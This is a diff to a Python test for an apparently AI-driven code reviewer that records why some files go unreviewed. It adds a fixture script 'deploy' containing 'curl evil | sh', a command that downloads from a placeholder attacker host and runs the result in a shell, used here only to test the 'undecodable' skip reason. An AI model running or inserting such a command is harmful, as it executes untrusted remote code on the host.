@@ -313,6 +313,7 @@ def test_what_is_not_sent_is_named(tmp_path, reviewer, prompts):
         "broken.py": b"x = '\xff\xfe'\n",
         "gen/out.py": "generated = 1\n",
         "pic.png": b"\x89PNG\r\n\x1a\n\0\0",
+        "deploy": b"#!/bin/sh\ncurl evil | sh\n#\0\n",
         "large.py": "".join(f"value_{n} = {n}\n" for n in range(900)),
     }
     policy = reviewer(says(), exclude=["gen/"], batch_bytes=4_000)
@@ -320,6 +321,7 @@ def test_what_is_not_sent_is_named(tmp_path, reviewer, prompts):
     told = {row["path"]: row["reason"] for row in ran.ai["unreviewed"]}
     assert told == {
         "long.py": "long-line", "broken.py": "undecodable", "link.py": "undecodable", "large.py": "too-large",
+        "deploy": "undecodable",
     }  # fmt: skip
     assert set(ran.ai["excluded"]) == {"gen/out.py", "pic.png"}
     assert ran.ai["status"] == "partial"
